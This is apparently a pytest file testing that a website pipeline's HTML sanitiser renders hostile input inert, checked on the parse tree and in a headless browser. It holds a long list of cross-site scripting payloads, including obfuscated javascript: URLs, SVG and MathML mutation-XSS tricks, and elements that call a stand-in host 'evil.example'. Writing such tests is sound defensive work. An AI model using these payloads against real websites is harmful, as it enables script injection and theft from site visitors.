"""Hostile content comes out inert: on the parse tree, and in the browser it was meant for."""

import html
import re
import time
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import feedparser
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.staticfiles import StaticFiles

from pipeline.platforms.content import Content
from pipeline.platforms.media.facts import Media
from pipeline.platforms.site import pages, sanitise
from pipeline.platforms.site.article import Article, Copy, SiteConfig, compose, read_copy
from pipeline.vocabulary import MediaKind
from pipeline_tests.platforms.own_site import browser
from pipeline_tests.platforms.own_site.conftest import a_file
from pipeline_tests.platforms.own_site.reading import assert_valid, assert_valid_and_inert, foreign_to_a_body, parsed
from pipeline_tests.platforms.own_site.reading import structured as structured_data
from pipeline_tests.web import serve_app

OWN = "window.owned=1"
EVIL = "https://evil.example"
HOSTILE = [
    f"<script>{OWN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src=/none onerror={OWN}>",
    f"<img src=/none onerror={OWN} alt='x' title='<img src=/none onerror={OWN}>'>",
    f"<p onclick={OWN} onmouseover={OWN} onfocus={OWN} tabindex=0 autofocus>x</p>",
    f"<details open ontoggle={OWN}><summary>x</summary></details>",
    f"<video><source onerror={OWN} src=/none></video><audio src=/none onerror={OWN}>",
    f"<body onload={OWN}><p>x",
    f"<a href='javascript:{OWN}'>x</a>",
    f"<a href='java&#11;script:{OWN}'>x</a>",
    f"<a href='java&Tab;script&colon;{OWN}'>x</a>",
    f"<a href='&#1;javascript:{OWN}'>x</a>",
    f"<a href=' \tJaVaScRiPt:{OWN}'>x</a>",
    f"<a href='data:text/html,<script>{OWN}</script>'>x</a>",
    f"<a href='vbscript:{OWN}'>x</a>",
    f"<blockquote cite='javascript:{OWN}'><q cite='data:x'>x</q></blockquote>",
    f"<img src='data:image/svg+xml,<svg onload={OWN}>'>",
    f"<svg><script>{OWN}</script></svg>",
    f"<svg onload={OWN}><animate onbegin={OWN} attributeName=x></svg>",
    f"<svg><a xlink:href='javascript:{OWN}'><text>x</text></a><foreignObject><script>{OWN}</script></foreignObject></svg>",
    f"<svg></p><style><a id='</style><img src=/none onerror={OWN}>'></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=/none onerror={OWN}&gt;'>",
    f"<math><mtext><table><mglyph><style><img src=/none onerror={OWN}>",
    f"<math><annotation-xml encoding='text/html'><script>{OWN}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=/none onerror={OWN}>",
    f"<iframe src='{EVIL}'></iframe><iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    f"<object data='{EVIL}'></object><embed src={EVIL}><applet code=x>",
    f"<form action='{EVIL}'><input name=password autofocus onfocus={OWN}><button formaction=javascript:{OWN}>x</button></form>",
    f"<style>@import '{EVIL}/x.css'; body{{display:none}}</style><link rel=stylesheet href={EVIL}><link rel=prefetch href={EVIL}>",
    f"<p style='position:fixed;inset:0;background:url({EVIL})' class='skip' id=main>x</p>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'>",
    f"</div></article></main></body></html><script>{OWN}</script>",
    f"<!--><script>{OWN}</script>-->",
    f"<!--x--!><script>{OWN}</script>",
    f"<!-- never closed <script>{OWN}</script>",
    f"<![CDATA[<script>{OWN}</script>]]>",
    f"<?xml version='1.0'?><script>{OWN}</script>",
    f"<template><script>{OWN}</script><img src=/none onerror={OWN}></template>",
    f"<noscript><p title='</noscript><img src=/none onerror={OWN}>'></noscript>",
    f"<textarea><p title='</textarea><img src=/none onerror={OWN}>'>",
    f"<title><p title='</title><script>{OWN}</script>'>",
    f"<xmp><p title='</xmp><img src=/none onerror={OWN}>'>",
    f"<plaintext><script>{OWN}</script>",
    f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    f"<<script>script>{OWN}<</script>/script>",
    f"&lt;script&gt;{OWN}&lt;/script&gt;",
    f"<p title='&quot;&gt;&lt;script&gt;{OWN}&lt;/script&gt;'>x</p>",
    "<p>x<object><p>in</p></object></p><table><p>stray<td>cell</table></b></i>",
    "<frameset><frame src=/none></frameset>",
    "<h1>Another title</h1><p>\x00\x0b\ufffe\ud800 control</p>",
]  # fmt: skip
TEXTS = [
    f"</script><script>{OWN}</script>",
    f'"><img src=/none onerror={OWN}>',
    f"' onmouseover={OWN} x='",
    "<!--",
    "{{ 7 * 7 }}",
    'Tom & Jerry\'s "day" \u2028\x0b\ud800',
]


CONFIG = SiteConfig(folder="/site", base_url="https://example.com", name="N")


def an_article(body: str, title: str = "T", media: Sequence[Media] = (), **specific: Any) -> tuple[Article, Copy]:
    copy, problems = read_copy(Content("distribution", body, title, None, media, {"slug": "page", **specific}))
    assert copy is not None, problems
    moment = datetime.now(UTC)
    return compose(copy, CONFIG, slug="page", distribution_id="distribution", published_at=moment), copy


def hostile_pages() -> dict[str, bytes]:
    """By file name: a page for each hostile body, a page and a front page for each hostile text."""
    made = {}
    for number, hostile in enumerate(HOSTILE):
        article, copy = an_article(f"<p>Before.</p>{hostile}<p>After.</p>")
        made[f"body-{number}.html"] = pages.article_page(CONFIG, article, copy)
    for number, text in enumerate(TEXTS):
        said = {"author": text, "excerpt": text, "description": text, "keywords": [text]}
        picture = a_file(MediaKind.IMAGE, "http://127.0.0.1:1/none.jpg", text)
        article, copy = an_article("<p>x</p>", f"T {text}", [picture], **said)
        made[f"text-{number}.html"] = pages.article_page(CONFIG, article, copy, [article.entry])
        made[f"front-{number}.html"] = pages.front_page(CONFIG, [article.entry], more=True)
    return made


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_body_comes_out_valid_and_inert(hostile):
    article, copy = an_article(f"<p>Before.</p>{hostile}<p>After.</p>")
    root = assert_valid_and_inert(pages.article_page(CONFIG, article, copy).decode())
    assert "Before." in root.text_content()
    assert len(root.findall(".//main")) == len(root.findall(".//article")) == 1


def test_nothing_hostile_runs_or_calls_out_in_a_browser(tmp_path: Path):
    """Served without the headers that would stop it, so that it is the page that holds."""
    made = hostile_pages()
    for name, content in made.items():
        (tmp_path / name).write_bytes(content)
    plain = Starlette(routes=[Mount("/", StaticFiles(directory=tmp_path))])
    with serve_app(plain) as address, browser.chromium() as chromium, browser.a_page(chromium) as page:
        page.on("dialog", lambda dialog: pytest.fail(f"A dialog: {dialog.message}"))
        for name in made:
            page.goto(f"{address}/{name}")
            # Every event that a reader might cause, and every link as the browser itself understands it.
            page.evaluate("""() => document.querySelectorAll('body *').forEach(element =>
                ['click', 'mouseover', 'focus', 'toggle', 'error', 'load'].forEach(name =>
                    element.dispatchEvent(new Event(name))))""")
            schemes = page.evaluate("() => [...document.querySelectorAll('[href]')].map(a => new URL(a.href).protocol)")
            assert set(schemes) <= {"http:", "https:", "mailto:", "tel:"}, name
            assert page.evaluate("window.owned") is None, name
            assert page.url == f"{address}/{name}"
        assert page.strangers == []


def test_the_browser_would_have_noticed(tmp_path: Path):
    """What the test before this one rests on: the same content, not sanitised, runs and calls out."""
    bodies = [f"<img src=/none onerror={OWN}>", f"<img src={EVIL}/x.png>"]
    (tmp_path / "index.html").write_text(f"<!doctype html><title>x</title>{''.join(bodies)}")
    plain = Starlette(routes=[Mount("/", StaticFiles(directory=tmp_path, html=True))])
    with serve_app(plain) as address, browser.chromium() as chromium, browser.a_page(chromium) as page:
        page.goto(address)
        assert page.evaluate("window.owned") == 1
        assert page.strangers == [f"{EVIL}/x.png"]


@pytest.mark.parametrize("text", TEXTS)
def test_hostile_text_in_any_field_stays_text(site, text):
    credit = {"url": "https://example.com/?a=1&b=%22", "publisher": text, "author": text, "license": text}
    fields = {"author": text, "excerpt": text, "description": text, "keywords": [text], "credit": credit}
    media = [a_file(MediaKind.IMAGE, alt_text=text), a_file(MediaKind.VIDEO, alt_text=text)]
    site.publish("page", title=f"T {text}", media=media, platform_specific=fields)

    for name in ("page/index.html", "index.html", "archive/index.html", "tags/index.html"):
        assert_valid_and_inert(site.read(name))
    root = parsed(site.read("page/index.html"))
    kept = " ".join(re.sub("[\x0b\ud800]", "", text).split())
    assert root.findtext(".//h1") == f"T {kept}"
    assert structured_data(site.read("page/index.html"))["Article"]["headline"] == f"T {kept}"
    feed = feedparser.parse(site.read("feed.xml"), sanitize_html=False)
    assert not feed.bozo
    assert html.unescape(feed.entries[0].title) == f"T {kept}"


@pytest.mark.parametrize("text", TEXTS)
def test_hostile_text_in_the_sites_settings_stays_text(site, text):
    text = text.replace("\ud800", "")  # JSON, which settings are, has no lone surrogates
    site.settings |= {"name": f"N {text}", "description": text}
    site.publish("page")
    site.publish("gone")
    site.adapter.delete("gone")
    for name in ("page/index.html", "index.html", "archive/index.html", "tags/index.html", "404.html", "gone/410.html"):
        root = assert_valid_and_inert(site.read(name))
        kept = " ".join(text.replace("\x0b", "").split())
        assert root.findtext(".//header//a") == f"N {kept}"


PIECES = st.sampled_from([*HOSTILE, "<p>", "</p>", "<table>", "<tr>", "<li>", "<a href='/x'>", "<a rel='sponsored x'>", "<b>", "<blockquote>", "</b>", "text", "<h1>", "</h2>", "<pre>\n\n", "<ol start=x>", "<div class='disclosure evil'>", "&", "&#11;", "<", "<dl><dd>", "<details><summary>", "<figure>", "<caption>", "<col>", "<select>", "<p id=main>", "<p lang='x y' dir=up>"])  # fmt: skip
SOUP = st.tuples(st.lists(PIECES, max_size=12), st.text(max_size=20)).map(lambda parts: "".join(parts[0]) + parts[1])


@settings(max_examples=300, deadline=None)
@given(body=SOUP)
@example(body="<pre>\n\n\nx</pre>")
@example(body="<p>one<table><tr><td>two</table>three")
def test_whatever_goes_in_only_what_is_allowed_comes_out_and_it_stays_as_it_is(body):
    harmless = sanitise.body_html(body)
    assert foreign_to_a_body(harmless) == []
    assert sanitise.body_html(harmless) == harmless
    assert_valid(f"<!doctype html><title>x</title><div>{harmless}</div>")


@settings(max_examples=150, deadline=None)
@given(body=SOUP)
def test_a_page_around_any_tag_soup_is_valid_and_inert(body):
    assert_valid_and_inert(pages.article_page(CONFIG, *an_article(f"<p>Start.</p>{body}")).decode())


DEEP = ["<div>", "<b>", "<ul><li>", "<table><tr><td>", "<blockquote>", "<x-y>", "<svg><g>", "<math><mi>", "<template>", "<font><p>"]  # fmt: skip


@pytest.mark.parametrize("piece", DEEP)
def test_a_megabyte_of_nesting_is_refused_with_the_reason(site, piece):
    body = "<p>Start.</p>" + piece * (1_000_000 // len(piece))
    (problem,) = site.adapter.validate(site.content("page", body=body))
    assert problem.field == "body"
    assert "within each other" in problem.message


def test_formatting_that_would_be_copied_into_every_block_is_refused():
    """By the HTML standard these 150 kB are 2.4 million elements."""
    opened = "".join(f"<b title={number}>" for number in range(200))
    with pytest.raises(ValueError, match="within each other"):
        sanitise.body_html(f"<p>{opened}{'<div>x</div>' * 12_000}")


def test_a_long_article_with_markup_left_open_is_still_an_article():
    """What the nesting limits must let through; in the square of its length it would take minutes."""
    started = time.monotonic()
    harmless = sanitise.body_html("".join(f"<p><b title={number}>x</p>" for number in range(10_000)))
    assert harmless.count("<p>") == 10_000
    assert time.monotonic() - started < 30


def test_a_title_in_the_body_becomes_a_heading_below_the_pages_own(site):
    site.publish("page", body="<h1>Another title</h1><p>Text.</p>")
    root = assert_valid_and_inert(site.read("page/index.html"))
    assert root.findtext(".//div[@class='body']/h2") == "Another title"
